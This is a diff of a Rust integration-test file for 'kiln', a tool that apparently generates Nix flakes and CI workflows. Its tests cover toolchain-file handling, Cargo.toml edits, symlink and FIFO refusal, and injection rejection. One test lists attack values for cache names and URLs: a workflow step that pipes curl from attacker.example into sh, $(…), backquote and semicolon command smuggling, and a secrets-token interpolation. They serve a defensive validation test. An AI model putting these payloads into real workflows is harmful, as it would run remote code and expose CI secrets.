@@ -118,8 +118,13 @@ fn issue8_init_on_a_fresh_crate_twice_changes_nothing_the_second_time() {
     let run = Run::of(kiln(&dir).args(["init", "--kiln-url", "github:example/kiln"])).expect_code(0);
     assert_eq!(
         run.stdout.lines().filter(|l| l.starts_with("unchanged")).count(),
-        4,
+        3,
         "{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains("kept       rust-toolchain.toml"),
+        "the toolchain file is the crate's once written:\n{}",
         run.stdout
     );
     assert_eq!(snapshot(&dir), before, "the second run changed nothing");
@@ -128,6 +133,7 @@ fn issue8_init_on_a_fresh_crate_twice_changes_nothing_the_second_time() {
 }
 
 // issue 8: an edited file is refused (exit 2, named, nothing written); --force overwrites it.
+// issue 14 item 5: an edited rust-toolchain.toml is the crate's and is kept, even with --force.
 #[test]
 fn issue8_init_refuses_edited_files_unless_forced() {
     let (_tmp, dir) = new_crate();
@@ -140,39 +146,45 @@ fn issue8_init_refuses_edited_files_unless_forced() {
     let wf = dir.join(".github/workflows/kiln-release.yml");
     fs::remove_file(&wf).unwrap();
 
-    let run = Run::of(kiln(&dir).arg("init")).expect_code(2);
+    let run = Run::of(kiln(&dir).arg("init")).expect_code(0);
     assert!(
-        run.stderr.contains("rust-toolchain.toml") && run.stderr.contains("--force"),
-        "{}",
-        run.stderr
-    );
-    assert!(!run.stderr.contains("flake.nix"), "{}", run.stderr);
-    assert_eq!(fs::read_to_string(&toolchain).unwrap(), edited);
-    assert!(!wf.exists(), "nothing is written when a file is refused");
-
-    // A file the user wrote without kiln is refused too.
-    fs::write(dir.join("flake.nix"), "{ outputs = _: { }; }\n").unwrap();
-    let run = Run::of(kiln(&dir).arg("init")).expect_code(2);
-    assert!(
-        run.stderr.contains("flake.nix") && run.stderr.contains("rust-toolchain.toml"),
-        "{}",
-        run.stderr
-    );
-
-    let run = Run::of(kiln(&dir).args(["init", "--force"])).expect_code(0);
-    assert!(
-        run.stdout.contains("overwrote  rust-toolchain.toml"),
+        run.stdout.contains("kept       rust-toolchain.toml"),
         "{}",
         run.stdout
     );
+    assert_eq!(fs::read_to_string(&toolchain).unwrap(), edited);
+    assert!(wf.exists(), "the workflow is written again");
+
+    // A file the user wrote without kiln is refused; nothing is written then.
+    fs::remove_file(&wf).unwrap();
+    fs::write(dir.join("flake.nix"), "{ outputs = _: { }; }\n").unwrap();
+    let run = Run::of(kiln(&dir).arg("init")).expect_code(2);
+    assert!(
+        run.stderr.contains("flake.nix") && run.stderr.contains("--force"),
+        "{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains("rust-toolchain.toml"), "{}", run.stderr);
+    assert!(!wf.exists(), "nothing is written when a file is refused");
+
+    let run = Run::of(kiln(&dir).args(["init", "--force"])).expect_code(0);
     assert!(run.stdout.contains("overwrote  flake.nix"), "{}", run.stdout);
+    assert!(
+        run.stdout.contains("kept       rust-toolchain.toml"),
+        "{}",
+        run.stdout
+    );
     assert!(
         run.stdout
             .contains("created    .github/workflows/kiln-release.yml"),
         "{}",
         run.stdout
     );
-    assert!(fs::read_to_string(&toolchain).unwrap().contains("\"stable\""));
+    assert_eq!(
+        fs::read_to_string(&toolchain).unwrap(),
+        edited,
+        "--force keeps the crate's toolchain file"
+    );
     Run::of(kiln(&dir).arg("init")).expect_code(0);
 }
 
@@ -199,7 +211,7 @@ fn issue8_workflows_pass_actionlint_for_every_cache_kind() {
         }
         match kind {
             "cachix" => assert!(text.contains("cachix/cachix-action@")),
-            "attic" => assert!(text.contains("attic push ci:team")),
+            "attic" => assert!(text.contains("attic push 'ci:team'")),
             "s3" => assert!(text.contains("cache push --to") && text.contains("s3://team")),
             _ => assert!(!text.contains("cachix-action") && !text.contains("attic")),
         }
@@ -224,4 +236,651 @@ fn issue8_workflows_pass_actionlint_for_every_cache_kind() {
     .unwrap();
     let run = Run::of(Command::new(actionlint()).arg(&bad));
     assert_ne!(run.code, 0, "actionlint rejects a broken workflow");
+}
+
+/// The real `cargo`, as the test harness runs it.
+fn cargo() -> Command {
+    Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
+}
+
+/// `[package.metadata.kiln]` as real `cargo metadata` reads it from `dir/Cargo.toml` (which
+/// fails the test when Cargo cannot parse the file).
+#[track_caller]
+fn cargo_kiln_metadata(dir: &Path) -> serde_json::Value {
+    let run = Run::of(
+        cargo()
+            .args([
+                "metadata",
+                "--offline",
+                "--no-deps",
+                "--format-version",
+                "1",
+                "--manifest-path",
+            ])
+            .arg(dir.join("Cargo.toml")),
+    );
+    assert_eq!(
+        run.code,
+        0,
+        "cargo metadata on\n{}\n{}",
+        fs::read_to_string(dir.join("Cargo.toml")).unwrap(),
+        run.stderr
+    );
+    run.json()["packages"][0]["metadata"]["kiln"].clone()
+}
+
+/// `Cargo.toml`s whose kiln table (`targets = ["x86_64-gnu"]`, `archive = "zip"`) is written in
+/// each form TOML allows other than a plain `[package.metadata.kiln]` header.
+fn kiln_table_shapes() -> Vec<(&'static str, String)> {
+    let pkg = "name = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
+    let deps = "\n[dependencies] # none yet\n";
+    vec![
+        (
+            "dotted keys at the top",
+            format!(
+                "package.name = \"demo\"\npackage.version = \"0.1.0\"\npackage.edition = \"2021\"\n\
+                 package.metadata.kiln.targets = [\"x86_64-gnu\"]\npackage.metadata.kiln.archive = \"zip\"\n{deps}"
+            ),
+        ),
+        (
+            "dotted keys under [package]",
+            format!(
+                "[package]\n{pkg}metadata.kiln.targets = [\"x86_64-gnu\"]  # ours\nmetadata.kiln.archive = \"zip\"\n{deps}"
+            ),
+        ),
+        (
+            "dotted keys under [package.metadata]",
+            format!(
+                "[package]\n{pkg}\n[package.metadata]\nkiln.targets = [\"x86_64-gnu\"]\nkiln.archive = \"zip\"\n{deps}"
+            ),
+        ),
+        (
+            "a quoted header",
+            format!(
+                "[package]\n{pkg}\n[package.metadata.\"kiln\"]\ntargets = [\"x86_64-gnu\"]\narchive = \"zip\"\n{deps}"
+            ),
+        ),
+        (
+            "an inline table",
+            format!(
+                "[package]\n{pkg}metadata = {{ kiln = {{ targets = [\"x86_64-gnu\"], archive = \"zip\" }} }}\n{deps}"
+            ),
+        ),
+        (
+            "an inline table under [package.metadata]",
+            format!(
+                "[package]\n{pkg}\n[package.metadata]\nkiln = {{ targets = [\"x86_64-gnu\"], archive = \"zip\" }}\n{deps}"
+            ),
+        ),
+    ]
+}
+
+// issue 13 item 11: `kiln init` finds an existing kiln table in every form TOML allows (dotted
+// keys at the top, under [package] or under [package.metadata], a quoted header, inline tables),
+// keeps it byte for byte, and with --force sets its keys in place; real cargo parses every result
+// and carries the values.
+#[test]
+fn issue13_item11_init_edits_every_form_of_the_kiln_table() {
+    for (shape, text) in &kiln_table_shapes() {
+        let (_tmp, dir) = new_crate();
+        let cargo_toml = dir.join("Cargo.toml");
+        fs::write(&cargo_toml, text).unwrap();
+        let run = Run::of(kiln(&dir).args(["init", "--kiln-url", "github:example/kiln"])).expect_code(0);
+        assert!(
+            run.stdout.contains("unchanged  Cargo.toml"),
+            "{shape}:\n{}",
+            run.stdout
+        );
+        assert_eq!(
+            &fs::read_to_string(&cargo_toml).unwrap(),
+            text,
+            "{shape}: kept as it was"
+        );
+        let kiln_table = cargo_kiln_metadata(&dir);
+        assert_eq!(kiln_table["archive"], "zip", "{shape}");
+        assert_eq!(
+            kiln_table["targets"],
+            serde_json::json!(["x86_64-gnu"]),
+            "{shape}"
+        );
+
+        let run = Run::of(kiln(&dir).args([
+            "init",
+            "--force",
+            "--kiln-url",
+            "github:example/kiln",
+            "-t",
+            "aarch64-musl",
+            "--archive",
+            "tar.xz",
+            "--cache",
+            "cachix",
+        ]))
+        .expect_code(0);
+        assert!(
+            run.stdout.contains("overwrote  Cargo.toml"),
+            "{shape}:\n{}",
+            run.stdout
+        );
+        let edited = fs::read_to_string(&cargo_toml).unwrap();
+        assert!(
+            !edited.contains("[package.metadata.kiln]"),
+            "{shape}: no second table\n{edited}"
+        );
+        assert!(edited.contains("[dependencies] # none yet"), "{shape}: {edited}");
+        let kiln_table = cargo_kiln_metadata(&dir);
+        assert_eq!(kiln_table["archive"], "tar.xz", "{shape}: {edited}");
+        assert_eq!(
+            kiln_table["targets"],
+            serde_json::json!(["aarch64-musl"]),
+            "{shape}"
+        );
+        assert_eq!(kiln_table["cache"], "cachix", "{shape}");
+        assert_eq!(kiln_table["glibc-max"], "2.17", "{shape}");
+        // kiln reads back what it wrote, and a second run changes nothing.
+        let before = fs::read_to_string(&cargo_toml).unwrap();
+        Run::of(kiln(&dir).args(["init", "--force", "--kiln-url", "github:example/kiln"])).expect_code(0);
+        assert_eq!(fs::read_to_string(&cargo_toml).unwrap(), before, "{shape}");
+    }
+}
+
+// issue 13 item 11: without a kiln table, one is appended and the user's comments, spacing and
+// last line (without a newline, a comment after the last table) all stay, first and in order.
+#[test]
+fn issue13_item11_init_appends_the_table_keeping_comments() {
+    let (_tmp, dir) = new_crate();
+    let cargo_toml = dir.join("Cargo.toml");
+    let text = "# my crate\n[package]\nname   =   \"demo\"   # the name\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.docs.rs]\nall-features = true\n\n[dependencies]\n# nothing";
+    fs::write(&cargo_toml, text).unwrap();
+    Run::of(kiln(&dir).args(["init", "-t", "x86_64-musl"])).expect_code(0);
+    let out = fs::read_to_string(&cargo_toml).unwrap();
+    assert!(
+        out.starts_with(text),
+        "the user's bytes come first, unchanged:\n{out}"
+    );
+    assert_eq!(out.matches("[package.metadata.kiln]").count(), 1, "{out}");
+    let kiln_table = cargo_kiln_metadata(&dir);
+    assert_eq!(kiln_table["targets"], serde_json::json!(["x86_64-musl"]), "{out}");
+    assert_eq!(kiln_table["archive"], "tar.gz");
+}
+
+/// A crate to try cache names on, with its workflow path.
+fn workflow_of(dir: &Path) -> PathBuf {
+    dir.join(".github/workflows/kiln-release.yml")
+}
+
+// issue 13 item 12: cache names that could inject YAML or shell (a line break, `$(...)`,
+// backquotes, quotes, `;`, `${{`), or that the service refuses anyway, are refused: exit 2, one
+// line naming --cache-name and the value, no file written. A valid name's workflow passes
+// actionlint. A --kiln-url with a line break or `${{` is refused the same way.
+#[test]
+fn issue13_item12_init_refuses_cache_names_that_inject() {
+    let (_tmp, dir) = new_crate();
+    let wf = workflow_of(&dir);
+    let attacks = [
+        "demo\n      - run: curl -s attacker.example | sh",
+        "demo$(touch pwned)",
+        "demo`touch pwned`",
+        "demo'; touch pwned; '",
+        "demo\"; touch pwned; \"",
+        "demo;touch pwned",
+        "demo ${{ secrets.CACHIX_AUTH_TOKEN }}",
+        "demo # comment",
+        "",
+    ];
+    for kind in ["cachix", "attic", "s3"] {
+        for name in attacks {
+            let run = Run::of(kiln(&dir).args(["init", "--force", "--cache", kind, "--cache-name", name]))
+                .expect_code(2);
+            let quoted = format!("{name:?}");
+            assert!(
+                run.stderr.starts_with("kiln: error: --cache-name ")
+                    && run.stderr.contains(&quoted)
+                    && run.stderr.lines().count() == 1,
+                "{kind} {name:?}:\n{}",
+                run.stderr
+            );
+            assert!(
+                !wf.exists() && !dir.join("flake.nix").exists(),
+                "{kind} {name:?}: nothing written"
+            );
+            assert!(!dir.join("pwned").exists());
+        }
+    }
+    // What a service refuses although it is no attack.
+    for (kind, name) in [
+        ("cachix", "Team_Cache"),
+        ("s3", "ab"),
+        ("s3", "my..bucket"),
+        ("attic", "-x"),
+    ] {
+        Run::of(kiln(&dir).args(["ci", "init", "--cache", kind, "--cache-name", name])).expect_code(2);
+    }
+    for url in ["github:o/kiln\n      - run: id", "github:o/kiln?${{ secrets.X }}"] {
+        let run = Run::of(kiln(&dir).args(["ci", "init", "--kiln-url", url])).expect_code(2);
+        assert!(
+            run.stderr.contains("--kiln-url") && run.stderr.lines().count() == 1,
+            "{}",
+            run.stderr
+        );
+        assert!(!wf.exists());
+    }
+    for (kind, name) in [
+        ("cachix", "my-team"),
+        ("attic", "Team_1+ns"),
+        ("s3", "my.bucket-1"),
+    ] {
+        Run::of(kiln(&dir).args(["ci", "init", "--force", "--cache", kind, "--cache-name", name]))
+            .expect_code(0);
+        let text = fs::read_to_string(&wf).unwrap();
+        assert!(text.contains(name), "{kind}: {text}");
+        lint(&wf);
+    }
+}
+
+/// Bytes and modification time of a file (or the listing of a directory) outside the crate.
+fn fingerprint(path: &Path) -> (Vec<u8>, std::time::SystemTime) {
+    let meta = fs::symlink_metadata(path).unwrap();
+    let bytes = if meta.is_dir() {
+        crate::nixenv::listing(path).join("\n").into_bytes()
+    } else {
+        fs::read(path).unwrap()
+    };
+    (bytes, meta.modified().unwrap())
+}
+
+// issue 13 item 13: a symbolic link on any path `kiln init` writes (flake.nix, .github,
+// .github/workflows, the workflow, Cargo.toml), pointing outside the crate, is refused, even
+// with --force: exit 2, one line naming the link, the outside target untouched (bytes and
+// mtime), nothing written in the crate. A dangling link is refused too (kiln would otherwise
+// create its target). (A linked rust-toolchain.toml is the crate's and kept: issue 14 item 5.)
+#[test]
+fn issue13_item13_init_refuses_symlinks_on_written_paths() {
+    let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000_000);
+    let cases: [(&str, bool); 6] = [
+        ("flake.nix", false),
+        ("Cargo.toml", false),
+        (".github", true),
+        (".github/workflows", true),
+        (".github/workflows/kiln-release.yml", false),
+        ("flake.nix", false),
+    ];
+    for (i, (rel, is_dir)) in cases.into_iter().enumerate() {
+        let dangling = i == cases.len() - 1;
+        let (tmp, dir) = new_crate();
+        let outside = tmp.path().join("outside");
+        fs::create_dir(&outside).unwrap();
+        let target = outside.join("target");
+        if is_dir {
+            fs::create_dir(&target).unwrap();
+        } else if !dangling {
+            let text = if rel == "Cargo.toml" {
+                fs::read_to_string(dir.join("Cargo.toml")).unwrap()
+            } else {
+                "outside, not the crate's\n".to_owned()
+            };
+            fs::write(&target, text).unwrap();
+        }
+        if !dangling {
+            let f = fs::File::open(&target).unwrap();
+            f.set_modified(old).unwrap();
+        }
+        let link = dir.join(rel);
+        fs::create_dir_all(link.parent().unwrap()).unwrap();
+        if rel == "Cargo.toml" {
+            fs::remove_file(&link).unwrap();
+        }
+        std::os::unix::fs::symlink(&target, &link).unwrap();
+        let before = (!dangling).then(|| fingerprint(&target));
+
+        for args in [&["init", "--force"][..], &["ci", "init", "--force"]] {
+            if args[0] == "ci" && !(rel.starts_with(".github")) {
+                continue;
+            }
+            let run = Run::of(kiln(&dir).args(args)).expect_code(2);
+            assert!(
+                run.stderr.contains(&format!("{rel}: is a symbolic link")) && run.stderr.lines().count() == 1,
+                "{rel} ({args:?}):\n{}",
+                run.stderr
+            );
+            match &before {
+                Some(b) => assert_eq!(&fingerprint(&target), b, "{rel}: the outside target is untouched"),
+                None => assert!(
+                    fs::symlink_metadata(&target).is_err(),
+                    "{rel}: no file made at the link's target"
+                ),
+            }
+            assert_eq!(
+                crate::nixenv::listing(&outside).len(),
+                usize::from(!dangling),
+                "{rel}"
+            );
+            for f in FILES {
+                if f != "Cargo.toml" && !f.starts_with(rel) && !rel.starts_with(f) {
+                    assert!(
+                        fs::symlink_metadata(dir.join(f)).is_err(),
+                        "{rel}: {f} not written"
+                    );
+                }
+            }
+        }
+    }
+}
+
+// issue 13 item 13: files are written by rename from a temporary file in the same directory;
+// one that a killed run left behind (its process gone) is removed by the next run, and none of
+// this run's is left.
+#[test]
+fn issue13_item13_init_writes_by_rename_and_cleans_stale_temporaries() {
+    let (_tmp, dir) = new_crate();
+    let stale = dir.join(".flake.nix.kiln-999999999.tmp");
+    fs::write(&stale, "half").unwrap();
+    let cargo_toml = dir.join("Cargo.toml");
+    let mut perms = fs::metadata(&cargo_toml).unwrap().permissions();
+    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o640);
+    fs::set_permissions(&cargo_toml, perms).unwrap();
+    Run::of(kiln(&dir).arg("init")).expect_code(0);
+    assert!(!stale.exists(), "the stale temporary file is removed");
+    for d in [&dir, &dir.join(".github/workflows")] {
+        let names = crate::nixenv::listing(d);
+        assert!(!names.iter().any(|n| n.contains(".kiln-")), "{names:?}");
+    }
+    let mode = std::os::unix::fs::PermissionsExt::mode(&fs::metadata(&cargo_toml).unwrap().permissions());
+    assert_eq!(mode & 0o777, 0o640, "Cargo.toml keeps its permissions");
+}
+
+// issue 13 item 16: scripts/setup installs what the tests need on a fresh Debian 12, including
+// a C++ compiler (the fuzz crate builds libFuzzer).
+#[test]
+fn issue13_item16_setup_installs_a_cxx_compiler() {
+    let setup = fs::read_to_string(repo().join("scripts/setup")).unwrap();
+    let list = setup
+        .split_once("\npackages=(")
+        .and_then(|(_, rest)| rest.split_once(')'))
+        .map(|(list, _)| list)
+        .expect("scripts/setup has a packages=(...) list");
+    assert!(
+        list.split_whitespace().any(|p| p == "g++"),
+        "g++ in scripts/setup's Debian packages: {list}"
+    );
+}
+
+// issue 13 item 13: a FIFO where kiln init reads or writes (Cargo.toml, flake.nix, the workflow)
+// is refused at once (exit 2, named), not opened for a read that waits for a writer forever.
+#[test]
+fn issue13_item13_init_refuses_fifos_without_waiting() {
+    for rel in ["Cargo.toml", "flake.nix", ".github/workflows/kiln-release.yml"] {
+        let (_tmp, dir) = new_crate();
+        let fifo = dir.join(rel);
+        fs::create_dir_all(fifo.parent().unwrap()).unwrap();
+        let _ = fs::remove_file(&fifo);
+        Run::of(Command::new("mkfifo").arg(&fifo)).expect_code(0);
+        let mut child = kiln(&dir)
+            .args(["init", "--force"])
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
+        while child.try_wait().unwrap().is_none() {
+            if std::time::Instant::now() > deadline {
+                let _ = child.kill();
+                let _ = child.wait();
+                panic!("{rel}: kiln init still waits on the FIFO after 30 s");
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        let out = child.wait_with_output().unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{rel}: {stderr}");
+        assert!(
+            stderr.contains(rel) && stderr.contains("not a regular file") && stderr.lines().count() == 1,
+            "{rel}: {stderr}"
+        );
+    }
+}
+
+/// What the generated `dir/flake.nix` gives `kiln.lib.mkCrossPackages`, evaluated by the current
+/// Nix with nixpkgs' real `lib` and kiln's real target table: `toolchainFile` (as a string) and
+/// `targets`, and what the repository's `nix/toolchain.nix` asks rust-overlay for when given that
+/// file and the std of those targets (`requested`, from a rust-bin that returns its argument).
+/// Only the package set is absent; forcing it, or `self`, fails the evaluation.
+#[track_caller]
+fn flake_toolchain(dir: &Path) -> serde_json::Value {
+    let instantiate = cache_dir().join("nix-2.26/bin/nix-instantiate");
+    let upstream =
+        std::env::var_os("KILN_UPSTREAM_DIR").map_or_else(|| cache_dir().join("upstream"), PathBuf::from);
+    let lib = upstream.join("nixpkgs-lib/lib");
+    assert!(
+        instantiate.exists() && lib.join("default.nix").exists(),
+        "{} and {} are required for this test: run scripts/setup",
+        instantiate.display(),
+        lib.display()
+    );
+    let expr = r#"{ lib, repo, crate }:
+      let
+        root = /. + repo;
+        targets = import (root + "/nix/targets.nix") { };
+        out = (import (/. + crate + "/flake.nix")).outputs {
+          self = throw "the packages do not read self";
+          nixpkgs = {
+            inherit lib;
+            legacyPackages = throw "the package set is not forced";
+          };
+          kiln.lib = {
+            inherit targets;
+            mkCrossPackages = { pkgs, src, targets, toolchainFile, ... }: { inherit targets toolchainFile; };
+            mkVerifyChecks = throw "the checks are not evaluated";
+          };
+        };
+        p = out.packages.x86_64-linux;
+      in
+      {
+        toolchainFile = toString p.toolchainFile;
+        inherit (p) targets;
+        requested = import (root + "/nix/toolchain.nix") { rust-bin.fromRustupToolchain = a: a; } {
+          inherit (p) toolchainFile;
+          extraTargets = map (t: (targets.lookup t).triple) p.targets;
+        };
+      }"#;
+    let run = Run::of(
+        Command::new(&instantiate)
+            .args(["--eval", "--strict", "--json", "--arg", "lib"])
+            .arg(format!("import {}", lib.display()))
+            .args(["--argstr", "repo"])
+            .arg(repo())
+            .args(["--argstr", "crate"])
+            .arg(dir)
+            .args(["-E", expr])
+            .env("NIX_CONFIG", crate::nixenv::nix_config())
+            .env("KILN_MODERN_NIX_STORE", "dummy://"),
+    );
+    assert_eq!(
+        run.code,
+        0,
+        "evaluating {}:\n{}",
+        dir.join("flake.nix").display(),
+        run.stderr
+    );
+    run.json()
+}
+
+/// The `toolchainFile = ...;` line of the generated flake.
+#[track_caller]
+fn toolchain_line(dir: &Path) -> String {
+    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
+    let lines: Vec<&str> = flake
+        .lines()
+        .map(str::trim)
+        .filter(|l| l.starts_with("toolchainFile ="))
+        .collect();
+    assert_eq!(lines.len(), 1, "one toolchainFile line in\n{flake}");
+    lines[0].to_owned()
+}
+
+// issue 14 item 5: a crate's own rust-toolchain.toml is kept byte for byte (reported "kept", even
+// with --force), the generated flake reads that very file, and the targets chosen with -t end up
+// in [package.metadata.kiln] (also in an existing table, without --force), where the flake takes
+// them from: the evaluated flake asks for the crate's channel plus the chosen targets' std.
+#[test]
+fn issue14_item5_init_keeps_the_crates_rust_toolchain_toml() {
+    let (_tmp, dir) = new_crate();
+    let toolchain = dir.join("rust-toolchain.toml");
+    let own =
+        "# the crate's own\n[toolchain]\nchannel = \"1.88.0\"\ntargets = [\"x86_64-unknown-linux-musl\"]\n";
+    fs::write(&toolchain, own).unwrap();
+    let run = Run::of(kiln(&dir).args(["init", "--kiln-url", "github:example/kiln", "-t", "aarch64-musl"]))
+        .expect_code(0);
+    assert!(
+        run.stdout.contains("kept       rust-toolchain.toml"),
+        "{}",
+        run.stdout
+    );
+    assert_eq!(fs::read_to_string(&toolchain).unwrap(), own, "kept byte for byte");
+    assert!(!dir.join("rust-toolchain").exists());
+    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain.toml;");
+    assert_eq!(
+        cargo_kiln_metadata(&dir)["targets"],
+        serde_json::json!(["aarch64-musl"])
+    );
+    let eval = flake_toolchain(&dir);
+    assert_eq!(eval["toolchainFile"], toolchain.display().to_string(), "{eval}");
+    assert_eq!(eval["targets"], serde_json::json!(["aarch64-musl"]), "{eval}");
+    assert_eq!(
+        eval["requested"],
+        serde_json::json!({
+            "channel": "1.88.0",
+            "targets": ["x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl"],
+        }),
+        "{eval}"
+    );
+
+    // --force overwrites kiln's files, never the crate's toolchain file.
+    let run =
+        Run::of(kiln(&dir).args(["init", "--force", "--kiln-url", "github:example/kiln"])).expect_code(0);
+    assert!(
+        run.stdout.contains("kept       rust-toolchain.toml"),
+        "{}",
+        run.stdout
+    );
+    assert_eq!(fs::read_to_string(&toolchain).unwrap(), own);
+
+    // -t sets the targets of the existing table without --force; its other keys stay.
+    let cargo_toml = dir.join("Cargo.toml");
+    let before = fs::read_to_string(&cargo_toml).unwrap();
+    let run = Run::of(kiln(&dir).args([
+        "init",
+        "--kiln-url",
+        "github:example/kiln",
+        "-t",
+        "x86_64-gnu,x86_64-musl",
+    ]))
+    .expect_code(0);
+    assert!(run.stdout.contains("updated    Cargo.toml"), "{}", run.stdout);
+    let after = fs::read_to_string(&cargo_toml).unwrap();
+    assert_eq!(
+        after,
+        before.replace(
+            r#"targets = ["aarch64-musl"]"#,
+            r#"targets = ["x86_64-gnu", "x86_64-musl"]"#
+        ),
+        "only the targets changed"
+    );
+    let eval = flake_toolchain(&dir);
+    assert_eq!(
+        eval["targets"],
+        serde_json::json!(["x86_64-gnu", "x86_64-musl"]),
+        "{eval}"
+    );
+    assert_eq!(
+        eval["requested"]["targets"],
+        serde_json::json!(["x86_64-unknown-linux-musl", "x86_64-unknown-linux-gnu"]),
+        "{eval}"
+    );
+    let run = Run::of(kiln(&dir).args([
+        "init",
+        "--kiln-url",
+        "github:example/kiln",
+        "-t",
+        "x86_64-gnu,x86_64-musl",
+    ]))
+    .expect_code(0);
+    assert!(run.stdout.contains("unchanged  Cargo.toml"), "{}", run.stdout);
+}
+
+// issue 14 item 5: a crate with only rustup's legacy `rust-toolchain` file gets no
+// rust-toolchain.toml; the flake reads the legacy file (rustup's choice when both exist, too),
+// which nix/toolchain.nix reads to the crate's channel. A linked toolchain file is kept without
+// being followed; a directory there is refused.
+#[test]
+fn issue14_item5_init_uses_a_legacy_rust_toolchain_file() {
+    let (tmp, dir) = new_crate();
+    let legacy = dir.join("rust-toolchain");
+    fs::write(&legacy, "1.88.0\n").unwrap();
+    let run = Run::of(kiln(&dir).args(["init", "--kiln-url", "github:example/kiln", "-t", "x86_64-musl"]))
+        .expect_code(0);
+    assert!(
+        run.stdout.contains("kept       rust-toolchain\n"),
+        "{}",
+        run.stdout
+    );
+    assert!(!run.stdout.contains("rust-toolchain.toml"), "{}", run.stdout);
+    assert!(
+        !dir.join("rust-toolchain.toml").exists(),
+        "no rust-toolchain.toml beside the legacy file"
+    );
+    assert_eq!(fs::read_to_string(&legacy).unwrap(), "1.88.0\n");
+    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain;");
+    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
+    assert!(!flake.contains("rust-toolchain.toml"), "{flake}");
+    let eval = flake_toolchain(&dir);
+    assert_eq!(eval["toolchainFile"], legacy.display().to_string(), "{eval}");
+    assert_eq!(
+        eval["requested"],
+        serde_json::json!({ "channel": "1.88.0", "targets": ["x86_64-unknown-linux-musl"] }),
+        "{eval}"
+    );
+    // A second run changes nothing.
+    let run = Run::of(kiln(&dir).args(["init", "--kiln-url", "github:example/kiln"])).expect_code(0);
+    assert!(run.stdout.contains("unchanged  flake.nix"), "{}", run.stdout);
+
+    // Both files: rustup uses the legacy one, and so does the flake; both are kept.
+    let toml = "[toolchain]\nchannel = \"1.90.0\"\n";
+    fs::write(dir.join("rust-toolchain.toml"), toml).unwrap();
+    Run::of(kiln(&dir).args(["init", "--force"])).expect_code(0);
+    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain;");
+    assert_eq!(fs::read_to_string(&legacy).unwrap(), "1.88.0\n");
+    assert_eq!(fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap(), toml);
+
+    // A link is the crate's choice: kept as a link, its target untouched (bytes and mtime).
+    fs::remove_file(&legacy).unwrap();
+    fs::remove_file(dir.join("rust-toolchain.toml")).unwrap();
+    let shared = tmp.path().join("shared-toolchain.toml");
+    fs::write(&shared, toml).unwrap();
+    std::os::unix::fs::symlink(&shared, dir.join("rust-toolchain.toml")).unwrap();
+    let before = fingerprint(&shared);
+    let run = Run::of(kiln(&dir).args(["init", "--force"])).expect_code(0);
+    assert!(
+        run.stdout.contains("kept       rust-toolchain.toml"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        fs::symlink_metadata(dir.join("rust-toolchain.toml"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    assert_eq!(fingerprint(&shared), before);
+    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain.toml;");
+
+    // A directory where the toolchain file goes is no toolchain file: refused, named.
+    fs::remove_file(dir.join("rust-toolchain.toml")).unwrap();
+    fs::create_dir(dir.join("rust-toolchain.toml")).unwrap();
+    let run = Run::of(kiln(&dir).args(["init", "--force"])).expect_code(2);
+    assert!(
+        run.stderr.contains("rust-toolchain.toml: not a regular file") && run.stderr.lines().count() == 1,
+        "{}",
+        run.stderr
+    );
 }
